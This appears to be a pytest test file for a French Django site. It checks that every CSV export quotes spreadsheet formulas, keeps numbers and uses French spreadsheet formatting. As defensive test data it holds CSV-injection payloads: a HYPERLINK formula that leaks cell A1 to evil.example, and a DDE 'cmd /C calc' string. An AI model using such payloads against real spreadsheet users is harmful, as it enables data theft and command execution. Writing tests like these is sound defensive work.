"""Every CSV the site writes is safe and readable in a French spreadsheet.

Text that a spreadsheet would run as a formula is quoted, numbers stay numbers; the files meant for
people open right on a double-click (byte-order mark, `;`, decimal comma); the national standard's
file keeps the standard's form and still validates.
"""

import csv
import io
import json
from pathlib import Path

import pytest
from django.apps import apps
from django.conf import settings
from django.contrib.auth.models import Group
from django.urls import reverse
from frictionless import Resource, Schema, validate

from backoffice.roles import COORDINATORS
from opendata import mednum
from places import csvfiles
from tests.factories import CommuneFactory, PlaceFactory, ServiceFactory

HOSTILE = '=HYPERLINK("http://evil.example/?"&A1;"Cliquez")'


@pytest.mark.parametrize("start", ["=", "+", "-", "@", "\t", "\r"])
def test_text_that_a_spreadsheet_would_run_is_quoted_and_read_back(start):
    """OWASP's list of formula starts; the import reads the quoted text back as it was."""
    assert csvfiles.neutralise(start + "1+1") == "'" + start + "1+1"
    assert csvfiles.restore(csvfiles.neutralise(start + "1+1")) == start + "1+1"


def test_numbers_and_plain_text_are_written_as_they_are():
    """A negative longitude is a number, not a formula; other text is untouched."""
    text = csvfiles.write(["a", "b", "c", "d"], [[-3.49, 12, "Mende", None]])
    assert text.splitlines()[1] == "-3,49;12;Mende;"
    text = csvfiles.write(["a", "b"], [[-3.49, 1e-05]], dialect=csvfiles.STANDARD)
    assert text.splitlines()[1] == "-3.49,0.00001"
    assert csvfiles.restore("'Apostrophe") == "'Apostrophe"


def people_rows(response):
    """A file for people: UTF-8 with a byte-order mark, `;` between columns."""
    assert response.content.startswith(b"\xef\xbb\xbf")
    return list(csv.DictReader(io.StringIO(response.content.decode("utf-8-sig")), delimiter=";"))


@pytest.mark.django_db
def test_the_open_data_csv_quotes_formulas_and_opens_in_a_french_spreadsheet(client):
    """lieux.csv: hostile text quoted, coordinates as numbers with a decimal comma, accents in
    UTF-8 behind a byte-order mark, columns split on `;`."""
    PlaceFactory(
        name=HOSTILE,
        short_description="-- à lire",
        phone="+33 4 66 65 00 00",
        latitude=44.51782,
        longitude=-3.5,
        commune=CommuneFactory(name="Saint-Chély-d'Apcher"),
    )
    (row,) = people_rows(client.get(reverse("opendata:csv")))
    assert row["nom"] == "'" + HOSTILE
    assert row["description_courte"] == "'-- à lire"
    assert row["telephone"] == "'+33 4 66 65 00 00"
    assert (row["latitude"], row["longitude"]) == ("44,51782", "-3,5")
    assert row["commune"] == "Saint-Chély-d'Apcher"


@pytest.mark.django_db
def test_the_coverage_csv_quotes_formulas_and_opens_in_a_french_spreadsheet(client):
    """The coverage file: the nearest place's name is quoted, distances have a decimal comma."""
    visio = ServiceFactory(code="visio")
    PlaceFactory(name="@SUM(A1:A9)", services=[visio], latitude=44.6, longitude=3.5)
    rows = people_rows(client.get(reverse("coverage:csv"), {"service": "visio"}))
    assert {row["lieu_le_plus_proche"] for row in rows} == {"'@SUM(A1:A9)"}
    assert all("," in row["distance_km"] for row in rows)


@pytest.mark.django_db
def test_the_charter_dashboard_csv_quotes_formulas_and_opens_in_a_french_spreadsheet(
    client, django_user_model
):
    """The back-office's dashboard file: a place named like a formula is quoted."""
    coordinator = django_user_model.objects.create_user("coord", is_staff=True)
    coordinator.groups.add(Group.objects.get(name=COORDINATORS))
    client.force_login(coordinator)
    PlaceFactory(name="+cmd|' /C calc'!A0")
    (row,) = people_rows(client.get(reverse("charter:dashboard-csv")))
    assert row["lieu"] == "'+cmd|' /C calc'!A0"


@pytest.mark.django_db
def test_the_standard_file_quotes_text_keeps_numbers_and_still_validates(client, tmp_path):
    """The « Lieux de médiation numérique » file: no byte-order mark, commas, a hostile name
    quoted, the standard's `+33…` telephone and a negative longitude kept; valid."""
    PlaceFactory(
        name=HOSTILE,
        legal_identifier="43493312300029",
        address="-1 rue du Faubourg, 48000 Mende",
        commune=CommuneFactory(insee="48095", name="Mende", postcodes="48000"),
        services=[ServiceFactory(code="digital-help")],
        phone="04 66 65 00 00",
        longitude=-3.49,
    )
    response = client.get(reverse("opendata:mednum"))
    assert not response.content.startswith(b"\xef\xbb\xbf")
    (row,) = csv.DictReader(io.StringIO(response.content.decode("utf-8")))
    assert row["nom"] == "'" + HOSTILE
    assert row["adresse"] == "'-1 rue du Faubourg, 48000 Mende"
    assert row["telephone"] == "+33466650000"
    assert row["longitude"] == "-3.49"
    path = tmp_path / "mednum.csv"
    path.write_bytes(response.content)
    schema = Schema.from_descriptor(json.loads(mednum.SCHEMA_PATH.read_text(encoding="utf-8")))
    report = validate(Resource(path=path.name, basepath=str(tmp_path), schema=schema))
    assert report.valid, report.flatten(["rowNumber", "fieldName", "type", "note"])


def test_every_csv_is_written_by_the_one_helper():
    """No module of the site writes CSV but places/csvfiles.py, whichever app it is in: a new
    export gets the same protection."""
    base = Path(settings.BASE_DIR)
    folders = {"solozere"} | {
        Path(config.path).name
        for config in apps.get_app_configs()
        if base in Path(config.path).parents
    }
    assert {"places", "opendata", "coverage", "backoffice", "charter"} <= folders
    writers = [
        path.relative_to(base)
        for folder in sorted(folders)
        for path in (base / folder).rglob("*.py")
        if "csv.writer(" in path.read_text(encoding="utf-8") or "DictWriter(" in path.read_text()
    ]
    assert writers == [Path("places/csvfiles.py")]


@pytest.mark.django_db
def test_a_quoted_cell_imports_back_as_it_was(client):
    """Export then import (the back-office's round trip) gives back the name, without the quote."""
    from backoffice import imports
    from places.models import Place

    PlaceFactory(name="=1+1 tiers-lieu", commune=CommuneFactory(insee="48095"))
    exported = client.get(reverse("opendata:csv")).content
    Place.objects.all().delete()
    dataset, _layout = imports.read(exported)
    assert dataset["nom"] == ["=1+1 tiers-lieu"]
